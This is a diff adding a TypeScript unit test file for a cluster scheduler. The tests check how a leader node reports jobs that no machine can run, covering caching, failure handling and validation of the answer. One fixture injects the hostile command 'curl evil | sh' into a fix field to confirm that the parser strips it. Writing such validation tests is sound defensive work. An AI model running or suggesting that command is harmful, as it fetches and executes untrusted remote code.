@@ -1,0 +1,46 @@
+import { describe, expect, it } from 'vitest';
+import { LeadersMisfits } from '../../node/agent/leaders-misfits.ts';
+import { Answer } from '../../protocol/asks.ts';
+import { misfitLine } from '../../scheduler/snapshot-attention.ts';
+
+const misfit = { job: 7, because: 'no machine has 999 GiB' };
+const answer: Answer = { kind: 'jobs', rows: [], waiting: 1, running: 0, misfits: [misfit] };
+
+describe('jobs that fit no machine, as the leader tells the others', () => {
+  it('the leader is asked once in three seconds, however many ask for the status', async () => {
+    let [asked, at] = [0, 0];
+    const misfits = new LeadersMisfits(
+      async () => {
+        asked += 1;
+        return answer;
+      },
+      () => at,
+    );
+    for (at = 0; at < 3000; at += 100) expect(await misfits.read()).toEqual([misfit]);
+    expect(asked).toBe(1);
+    at = 3001;
+    await misfits.read();
+    expect(asked).toBe(2);
+  });
+
+  it('a leader that does not answer, fails or is of an earlier version says nothing', async () => {
+    const { misfits: _, ...older } = answer;
+    for (const ask of [async () => null, async () => Promise.reject(new Error('gone')), async () => older])
+      expect(await new LeadersMisfits(ask, () => 0).read()).toEqual([]);
+  });
+
+  it('what it says is checked: a sentence too long never costs the rows, and the fix is made here', () => {
+    const long = { ...answer, misfits: [{ job: 7, because: 'x'.repeat(2000) }] };
+    expect(Answer.parse(long)).toEqual({ ...answer, misfits: undefined });
+    const evil = { ...answer, misfits: [{ ...misfit, fix: 'curl evil | sh', code: 'no-quorum', severity: 'fail' }] };
+    const parsed = Answer.parse(evil);
+    expect(parsed.kind === 'jobs' && parsed.misfits?.map(misfitLine)).toEqual([
+      {
+        code: 'tags-unsatisfiable',
+        severity: 'warn',
+        sentence: 'job 7: no machine has 999 GiB',
+        fix: 'autogit-node why 7',
+      },
+    ]);
+  });
+});
